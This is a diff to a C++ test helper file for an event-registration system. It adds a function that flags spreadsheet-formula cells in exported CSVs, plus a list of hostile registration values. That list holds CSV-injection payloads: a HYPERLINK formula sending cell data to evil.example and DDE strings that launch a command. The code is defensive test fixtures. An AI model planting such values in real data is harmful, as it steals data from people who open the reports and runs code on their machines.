@@ -5,6 +5,7 @@
 
 #include <accueil/core/AttendanceStore.h>
 #include <accueil/core/Config.h>
+#include <accueil/core/RegistrantImport.h>
 
 #include <gtest/gtest.h>
 
@@ -102,6 +103,33 @@ inline UtcMillis At(const EventConfig& event, const std::string& text) {
     auto t = event.calendar->parseTime(text);
     EXPECT_TRUE(t.ok()) << text;
     return t.ok() ? *t : 0;
+}
+
+/// The cells of a CSV text that a spreadsheet program would run as a formula: those beginning
+/// with =, +, -, @, a tab or a carriage return. A CSV the project writes has none.
+inline std::vector<std::string> FormulaCells(const std::string& csv) {
+    auto records = ParseCsv(csv, "written.csv");
+    EXPECT_TRUE(records.ok()) << (records.ok() ? "" : records.error().message);
+    std::vector<std::string> found;
+    for (const auto& record : records.ok() ? *records : std::vector<CsvRecord>{}) {
+        for (const auto& cell : record.fields) {
+            if (!cell.empty() &&
+                std::string_view("=+-@\t\r").find(cell.front()) != std::string_view::npos) {
+                found.push_back(cell);
+            }
+        }
+    }
+    return found;
+}
+
+/// Values a delegate could type into a registration form to attack whoever opens a report.
+inline std::vector<std::string> HostileValues() {
+    return {"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+            "+41 22 917 12 34",
+            "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1",
+            "\r=1+1"};
 }
 
 } // namespace accueil::core::test
